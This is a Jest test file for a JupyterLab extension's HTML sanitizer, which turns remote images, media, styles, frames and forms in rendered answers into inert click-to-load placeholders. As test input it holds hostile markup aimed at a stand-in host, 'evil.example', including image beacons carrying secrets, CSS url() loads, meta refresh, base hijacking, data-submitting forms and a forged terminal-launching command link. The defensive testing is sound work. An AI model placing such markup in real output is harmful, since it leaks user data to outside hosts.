import { Sanitizer } from '@jupyterlab/apputils';
import { nullTranslator } from '@jupyterlab/translation';

import { armPlaceholders, inertHtml } from '../render/remote';
import { InertSanitizer } from '../render/sanitizer';
import { classifyUrl, IUrlContext, parseSrcset } from '../render/urls';

const trans = nullTranslator.load('jupyter_code_interp');
const EVIL = 'http://evil.example:8081';
const PNG =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';

const context: IUrlContext = {
  pageUrl: 'http://localhost:8888/lab/tree/work/nb.ipynb',
  filesPrefix: 'http://localhost:8888/files/',
  fileUrl: path =>
    `/files/${path.split('/').map(encodeURIComponent).join('/')}`,
  directory: 'work'
};

/** JupyterLab's sanitizer followed by the inert transformation, as the panel renders answers. */
const sanitizer = new InertSanitizer(new Sanitizer(), () => ({
  ...context,
  trans
}));

/** The sanitized, inert HTML of `html`, parsed into a detached element for inspection. */
function render(html: string): HTMLElement {
  const host = document.createElement('div');
  host.innerHTML = sanitizer.sanitize(html);
  return host;
}

/** The inert HTML of `html` alone, as if a more permissive sanitizer had let it all through. */
function inertOnly(html: string): HTMLElement {
  const host = document.createElement('div');
  host.innerHTML = inertHtml(html, { ...context, trans });
  return host;
}

/** Every attribute naming the remote host, except the placeholders' own. */
function leftovers(host: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of Array.from(host.querySelectorAll('*'))) {
    for (const name of element.getAttributeNames()) {
      const value = element.getAttribute(name) ?? '';
      const own =
        element.closest('.jp-CodeInterp-remote') &&
        (name === 'data-code-interp-url' || name === 'title');
      if (value.includes('evil.example') && !own) {
        found.push(`${element.localName}[${name}]=${value}`);
      }
    }
  }
  return found;
}

describe('classifyUrl', () => {
  it('sends relative paths to file URLs under the notebook folder', () => {
    expect(classifyUrl('plot.png', context)).toEqual({
      kind: 'local',
      url: '/files/work/plot.png'
    });
    expect(classifyUrl('./out/my%20plot.png?x=1#y', context)).toEqual({
      kind: 'local',
      url: '/files/work/out/my%20plot.png'
    });
    expect(classifyUrl('/data/a.png', context)).toEqual({
      kind: 'local',
      url: '/files/data/a.png'
    });
    // Never above the server root.
    expect(classifyUrl('../../../etc/passwd', context)).toEqual({
      kind: 'local',
      url: '/files/etc/passwd'
    });
    expect(
      classifyUrl('http://localhost:8888/files/work/a.png', context)
    ).toEqual({ kind: 'local', url: 'http://localhost:8888/files/work/a.png' });
  });

  it('names the host of remote URLs, protocol-relative and backslashed ones too', () => {
    for (const raw of [
      `${EVIL}/x.png?d=1`,
      '//evil.example:8081/x.png',
      '\\\\evil.example:8081/x.png',
      '/\\evil.example:8081/x.png',
      ' \thttp://evil.example:8081/x.png\n'
    ]) {
      expect(classifyUrl(raw, context)).toEqual(
        expect.objectContaining({ kind: 'remote', host: 'evil.example:8081' })
      );
    }
    // Same host, outside the file URLs: still a click.
    expect(
      classifyUrl('http://localhost:8888/api/contents', context).kind
    ).toBe('remote');
  });

  it('allows data: images of raster types only, and nothing of other schemes', () => {
    for (const type of ['png', 'jpeg', 'gif', 'webp']) {
      expect(classifyUrl(`data:image/${type};base64,AAAA`, context).kind).toBe(
        'local'
      );
    }
    for (const raw of [
      'data:image/svg+xml;base64,PHN2Zz4=',
      'data:text/html,<script>1</script>',
      'javascript:alert(1)',
      'file:///etc/passwd',
      'blob:http://localhost:8888/uuid',
      'ftp://evil.example/x',
      ''
    ]) {
      expect(classifyUrl(raw, context).kind).toBe('blocked');
    }
    expect(classifyUrl(PNG, context, false).kind).toBe('blocked');
  });
});

describe('parseSrcset', () => {
  it('splits candidates, keeping commas inside data: URLs', () => {
    expect(parseSrcset(`a.png 1x, ${PNG} 2x,b.png`)).toEqual([
      { url: 'a.png', descriptor: '1x' },
      { url: PNG, descriptor: '2x' },
      { url: 'b.png', descriptor: '' }
    ]);
  });
});

describe('InertSanitizer', () => {
  it('turns remote images into placeholders naming the host', () => {
    const host = render(
      `<p>see <img src="${EVIL}/a.png?d=secret" alt="chart"></p>`
    );
    expect(host.querySelector('img')).toBeNull();
    const holder = host.querySelector('.jp-CodeInterp-remote')!;
    expect(holder.textContent).toContain('chart');
    expect(holder.textContent).toContain('Image from evil.example:8081');
    expect(holder.getAttribute('data-code-interp-url')).toBe(
      `${EVIL}/a.png?d=secret`
    );
    const load = holder.querySelector('button')!;
    expect(load.textContent).toBe('Load');
    expect(load.disabled).toBe(false);
  });

  it.each([
    ['img srcset', `<img srcset="${EVIL}/1.png 1x, ${EVIL}/2.png 2x">`],
    [
      'picture',
      `<picture><source srcset="${EVIL}/s.png"><img src="${EVIL}/i.png"></picture>`
    ],
    ['protocol-relative', '<img src="//evil.example:8081/p.png">'],
    ['input type=image', `<input type="image" src="${EVIL}/in.png">`],
    ['video src', `<video src="${EVIL}/v.mp4" autoplay muted></video>`],
    ['video poster', `<video poster="${EVIL}/poster.png"></video>`],
    [
      'video source and track',
      `<video autoplay><source src="${EVIL}/s.mp4"><track src="${EVIL}/t.vtt"></video>`
    ],
    ['audio src', `<audio src="${EVIL}/a.mp3" autoplay></audio>`],
    ['audio source', `<audio autoplay><source src="${EVIL}/a.ogg"></audio>`]
  ])('%s: nothing left that loads, a placeholder instead', (_name, html) => {
    // JupyterLab's sanitizer drops some of these URLs itself (srcset, <source src>).
    expect(leftovers(render(html))).toEqual([]);
    const host = inertOnly(html);
    expect(leftovers(host)).toEqual([]);
    expect(host.querySelectorAll('.jp-CodeInterp-remote')).toHaveLength(1);
    expect(host.querySelector('img, video, audio, source, track')).toBeNull();
  });

  it.each([
    [
      'style url()',
      `<div style="background-image: url(${EVIL}/bg.png)">x</div>`
    ],
    [
      'style shorthand',
      `<span style="color: red; background: url('${EVIL}/bg.png') no-repeat">x</span>`
    ],
    [
      'style escaped',
      `<span style="background-image: u\\72l(${EVIL}/e.png)">x</span>`
    ],
    [
      'style list image',
      `<li style="list-style-image: url(${EVIL}/li.png)">x</li>`
    ],
    ['style cursor', `<span style="cursor: url(${EVIL}/c.cur), auto">x</span>`],
    [
      '<style> block',
      `<style>@import url(${EVIL}/i.css); p { background: url(${EVIL}/b.png) }</style><p>x</p>`
    ],
    [
      'link',
      `<link rel="stylesheet" href="${EVIL}/s.css"><link rel="prefetch" href="${EVIL}/p">`
    ],
    ['iframe', `<iframe src="${EVIL}/f"></iframe>`],
    ['object', `<object data="${EVIL}/o"></object>`],
    ['embed', `<embed src="${EVIL}/e">`],
    [
      'svg image',
      `<svg><image href="${EVIL}/s.png"/><image xlink:href="${EVIL}/x.png"/></svg>`
    ],
    [
      'background attribute',
      `<table background="${EVIL}/t.png"><tr><td background="${EVIL}/d.png">c</td></tr></table>`
    ],
    ['meta refresh', `<meta http-equiv="refresh" content="0;url=${EVIL}/m">`],
    ['base', `<base href="${EVIL}/">`]
  ])('%s: nothing left that loads', (_name, html) => {
    for (const host of [render(html), inertOnly(html)]) {
      expect(leftovers(host)).toEqual([]);
      expect(host.innerHTML).not.toMatch(/url\(/i);
    }
  });

  it('keeps the rest of an inline style', () => {
    const host = render(
      `<span style="color: red; background-image: url(${EVIL}/bg.png)">x</span>`
    );
    expect(host.querySelector('span')!.getAttribute('style')).toContain('red');
  });

  it('keeps data: raster images and files under the server root, rewritten to file URLs', () => {
    const host = render(
      `<img src="${PNG}" alt="inline"><img src="out/plot.png" alt="file"><img src="/data/a%20b.png" alt="root">`
    );
    const images = Array.from(host.querySelectorAll('img'));
    expect(images.map(image => image.getAttribute('src'))).toEqual([
      PNG,
      '/files/work/out/plot.png',
      '/files/data/a%20b.png'
    ]);
    const local = inertOnly(
      `<img srcset="a.png 1x, ${PNG} 2x"><video src="clip.mp4" poster="p.png"><source src="clip.webm"></video>`
    );
    expect(local.querySelector('img')!.getAttribute('srcset')).toBe(
      `/files/work/a.png 1x, ${PNG} 2x`
    );
    expect(local.querySelector('video')!.getAttribute('src')).toBe(
      '/files/work/clip.mp4'
    );
    expect(local.querySelector('video')!.getAttribute('poster')).toBe(
      '/files/work/p.png'
    );
    expect(local.querySelector('source')!.getAttribute('src')).toBe(
      '/files/work/clip.webm'
    );
    // A srcset with one remote candidate waits for a click as a whole.
    const mixed = inertOnly(`<img srcset="a.png 1x, ${EVIL}/b.png 2x">`);
    expect(mixed.querySelector('img')).toBeNull();
    expect(mixed.querySelectorAll('.jp-CodeInterp-remote')).toHaveLength(1);
  });

  it('drops data: SVG and other schemes from images', () => {
    const host = render(
      '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="svg"><img src="file:///etc/passwd" alt="f">'
    );
    for (const image of Array.from(host.querySelectorAll('img'))) {
      expect(image.hasAttribute('src')).toBe(false);
    }
  });

  it('makes forms and their controls inert', () => {
    const host = render(
      `<form action="${EVIL}/f" method="get"><input name="q" value="secret"><button>Send</button><button formaction="${EVIL}/g">Go</button><select><option>a</option></select><textarea>t</textarea></form>`
    );
    expect(host.querySelector('form')).toBeNull();
    for (const control of Array.from(
      host.querySelectorAll('button, input, select, textarea')
    )) {
      expect(control.hasAttribute('disabled')).toBe(true);
    }
    for (const button of Array.from(host.querySelectorAll('button'))) {
      expect(button.getAttribute('type')).toBe('button');
    }
    expect(leftovers(host)).toEqual([]);
  });

  it('removes command-linker attributes and forged placeholder attributes', () => {
    const host = render(
      `<button data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">x</button>` +
        `<span class="jp-CodeInterp-remote" data-code-interp-url="${EVIL}/forged"><button class="jp-CodeInterp-remoteLoad">Load</button></span>`
    );
    expect(host.querySelector('[data-commandlinker-command]')).toBeNull();
    expect(host.querySelector('[data-commandlinker-args]')).toBeNull();
    expect(host.querySelector('[data-code-interp-url]')).toBeNull();
    for (const button of Array.from(host.querySelectorAll('button'))) {
      expect(button.disabled).toBe(true);
    }
  });

  it('keeps links (a click is needed) but not their pings', () => {
    const host = render(`<a href="${EVIL}/page" ping="${EVIL}/ping">page</a>`);
    const link = host.querySelector('a')!;
    expect(link.getAttribute('href')).toBe(`${EVIL}/page`);
    expect(link.hasAttribute('ping')).toBe(false);
  });
});

describe('armPlaceholders', () => {
  it('loads exactly the resource of the clicked placeholder', () => {
    const host = document.createElement('div');
    host.innerHTML = inertHtml(
      `<img src="${EVIL}/one.png" alt="one"><video src="${EVIL}/v.mp4"></video><img src="${EVIL}/two.png">`,
      { ...context, trans }
    );
    document.body.appendChild(host);
    const disarm = armPlaceholders(host);
    const loads = host.querySelectorAll<HTMLButtonElement>(
      '.jp-CodeInterp-remoteLoad'
    );
    expect(loads).toHaveLength(3);
    loads[0].click();
    const images = host.querySelectorAll('img');
    expect(images).toHaveLength(1);
    expect(images[0].getAttribute('src')).toBe(`${EVIL}/one.png`);
    expect(images[0].alt).toBe('one');
    loads[1].click();
    const video = host.querySelector('video')!;
    expect(video.getAttribute('src')).toBe(`${EVIL}/v.mp4`);
    expect(video.autoplay).toBe(false);
    expect(host.querySelectorAll('.jp-CodeInterp-remote')).toHaveLength(1);
    disarm();
    loads[2].click();
    expect(host.querySelectorAll('.jp-CodeInterp-remote')).toHaveLength(1);
    host.remove();
  });

  it('keeps a form from submitting', () => {
    const host = document.createElement('div');
    const form = document.createElement('form');
    host.appendChild(form);
    document.body.appendChild(host);
    const disarm = armPlaceholders(host);
    const event = new Event('submit', { cancelable: true, bubbles: true });
    form.dispatchEvent(event);
    expect(event.defaultPrevented).toBe(true);
    disarm();
    host.remove();
  });
});

describe('makeInert on nested and forged markup', () => {
  it('handles URLs inside media and inside look-alike placeholders', () => {
    const host = inertOnly(
      `<span class="jp-CodeInterp-remote"><svg><image href="${EVIL}/in-fake.png"/></svg></span>` +
        `<video><svg><image href="${EVIL}/in-video.png"/></svg></video>`
    );
    expect(leftovers(host)).toEqual([]);
  });
});
